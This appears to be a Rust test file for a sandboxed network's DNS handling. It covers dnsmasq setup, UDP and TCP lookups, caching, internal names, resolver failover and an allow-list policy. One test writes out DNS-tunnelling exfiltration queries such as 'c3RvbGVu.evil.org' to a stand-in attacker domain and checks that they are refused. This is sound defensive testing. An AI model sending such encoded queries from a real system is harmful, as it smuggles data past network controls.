//! The network's own DNS, asked by dig, answered by dnsmasq.

use capsa_net::{GuestConfig, Policy, Resolver};

use crate::lab::{Lab, SERVER4, network};

/// Starts a DNS server in the internet namespace that knows some names.
pub fn dnsmasq(lab: &mut Lab, more: &str) {
    let big: String = (0..120)
        .map(|n| format!(" --txt-record=big.example.com,{n}-{}", "x".repeat(40)))
        .collect();
    lab.spawn(
        "i",
        &format!(
            "dnsmasq -k -C /dev/null -R -h --edns-packet-max=1232 --listen-address={SERVER4} --bind-interfaces \
             --port=53 --pid-file --log-queries --log-facility=/tmp/{}.dns \
             --host-record=www.example.com,{SERVER4} --host-record=evil.org,5.6.7.8 \
             --host-record=secret.evil.org,5.6.7.8 --host-record=private.example.com,192.0.2.2 \
             --cname=alias.example.com,www.example.com --auth-ttl=60 --local-ttl=60{big} {more}",
            lab.namespace("i")
        ),
    );
    lab.wait_for_port("i", 53);
}

/// What the DNS server was asked, a line each.
pub fn queries(lab: &Lab) -> String {
    std::fs::read_to_string(format!("/tmp/{}.dns", lab.namespace("i"))).unwrap_or_default()
}

#[test]
fn lookups_work_over_udp_and_tcp_and_from_the_cache() {
    let mut lab = Lab::start();
    dnsmasq(&mut lab, "");
    for flags in ["", "+tcp", "@fdf4:5c1d:f168:8951::1"] {
        let text = lab.guest(&format!("dig +short {flags} www.example.com"));
        assert_eq!(text.trim(), SERVER4, "{flags}");
    }
    let text = lab.guest("dig +noall +answer alias.example.com");
    assert!(text.contains("CNAME") && text.contains(SERVER4), "{text}");
    lab.guest("dig nowhere.example.com | grep -q 'status: NXDOMAIN\\|status: REFUSED'");
    let counters = lab
        .block_on(lab.control().guests())
        .unwrap()
        .remove(0)
        .counters;
    assert!(counters.cached_lookups >= 1, "{counters:?}");
    assert_eq!(queries(&lab).matches("query[A] www.example.com").count(), 1);
}

#[test]
fn large_answers_are_truncated_by_udp_and_whole_by_tcp() {
    let mut lab = Lab::start();
    dnsmasq(&mut lab, "");
    let cut = lab.guest("dig +ignore +bufsize=512 big.example.com TXT");
    assert!(cut.contains(" tc "), "{cut}");
    let whole = lab.guest("dig big.example.com TXT");
    assert!(whole.contains("ANSWER: 120"), "{whole}");
}

#[test]
fn names_of_the_network_resolve() {
    let config = network().guest(GuestConfig::new("db".parse().unwrap()));
    let lab = Lab::with(config);
    for name in ["db", "db.capsa.internal"] {
        assert_eq!(lab.guest(&format!("dig +short {name}")).trim(), "10.0.2.4");
    }
    assert_eq!(
        lab.guest("dig +short host.capsa.internal").trim(),
        "10.0.2.2"
    );
    assert_eq!(
        lab.guest("dig +short -x 10.0.2.4").trim(),
        "db.capsa.internal."
    );
    let v6 = lab.addresses[1].ipv6.unwrap().to_string();
    assert_eq!(lab.guest("dig +short AAAA db").trim(), v6);
}

#[test]
fn dead_server_is_passed_over_and_none_is_a_failure() {
    let mut config = network();
    let servers = ["5.6.7.8:53", "1.2.3.4:53"].map(|server| server.parse().unwrap());
    config.resolver = Resolver::Servers(servers.to_vec());
    let mut lab = Lab::with(config);
    dnsmasq(&mut lab, "");
    assert_eq!(lab.guest("dig +short www.example.com").trim(), SERVER4);
    lab.block_on(
        lab.control()
            .set_resolver(Resolver::Servers(vec!["5.6.7.8:53".parse().unwrap()])),
    )
    .unwrap();
    let text = lab.guest("dig +timeout=15 www.example.com");
    assert!(text.contains("status: SERVFAIL"), "{text}");
}

#[test]
fn queries_outside_an_allow_list_do_not_leave_the_host() {
    let mut lab = Lab::with_policy(Policy::allow_only(["www.example.com"]).unwrap());
    dnsmasq(&mut lab, "");
    assert_eq!(lab.guest("dig +short www.example.com").trim(), SERVER4);
    for flags in ["", "+tcp"] {
        for name in [
            "c3RvbGVu.evil.org",
            "evil.org",
            "x.www.example.com",
            "example.com",
        ] {
            let text = lab.guest(&format!("dig {flags} {name}"));
            assert!(text.contains("status: REFUSED"), "{name}: {text}");
        }
    }
    // Neither to another server, nor on another port.
    for to in ["@1.2.3.4", "@1.2.3.4 +tcp", "@5.6.7.8 -p 5353"] {
        let (success, _) =
            lab.try_guest(&format!("dig +tries=1 +timeout=2 {to} c3RvbGVu.evil.org"));
        assert!(!success, "{to}");
    }
    assert!(!queries(&lab).contains("evil"), "{}", queries(&lab));
}
